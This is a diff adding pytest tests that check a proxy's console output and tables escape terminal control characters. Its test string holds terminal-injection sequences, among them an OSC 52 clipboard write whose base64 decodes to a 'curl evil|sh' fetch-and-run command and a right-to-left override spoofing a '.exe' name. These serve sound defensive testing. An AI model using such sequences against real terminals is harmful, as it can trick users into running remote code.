@@ -17,7 +17,7 @@ import multidict
 import pytest
 import yaml
 
-from proxy import config, database, errors, operations, webhooks
+from proxy import config, database, errors, inbox_commands, operations, webhooks
 from tests.helpers import (
     FakeUpstream,
     MakeProxy,
@@ -455,3 +455,33 @@ async def test_events_of_a_route_scoped_by_its_path(
     assert (forgotten[0], forgotten[1]) == (0, "forgotten: t/acme e1\n")
     assert stats[1].splitlines()[1].split()[:3] == ["t", "t/…", "1"]
     assert [row[:2] for row in await claimed(pg_dsn, table)] == [("t/globex", "e1")]
+
+
+# An OSC 52 clipboard write, a screen clear, a right-to-left override, a C1 CSI and DEL.
+HOSTILE = "deploy\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\u202egnp.exe\x9b31m\x7f"
+
+
+async def test_a_pause_s_words_typed_in_the_console_reach_the_terminal_escaped(
+    make_proxy: MakeProxy, config_file: Path
+) -> None:
+    await make_proxy()
+    cfg = config.load(config_file)
+    async with operations.open_store(cfg) as store:  # as the console pauses a route
+        said = await inbox_commands.pause_route(
+            store, cfg, "corvel", for_=None, note=HOSTILE, by=f"ops{HOSTILE}"
+        )
+    summary = io.StringIO()
+    await operations.stats(cfg, summary)
+    paused = io.StringIO()
+    await inbox_commands.pause(cfg, "gh", note=HOSTILE, by="ops", out=paused)
+
+    for shown in ("\n".join(said), summary.getvalue(), paused.getvalue()):
+        assert "deploy\\u001b]52;c;" in shown
+        for control in ("\x1b", "\x07", "\u202e", "\x9b", "\x7f"):
+            assert control not in shown
+
+
+def test_a_table_escapes_what_came_from_outside() -> None:
+    out = io.StringIO()
+    operations.table([(HOSTILE, 1)], ("from outside", "n"), out)
+    assert out.getvalue().splitlines()[1].startswith("deploy\\u001b]52;c;")
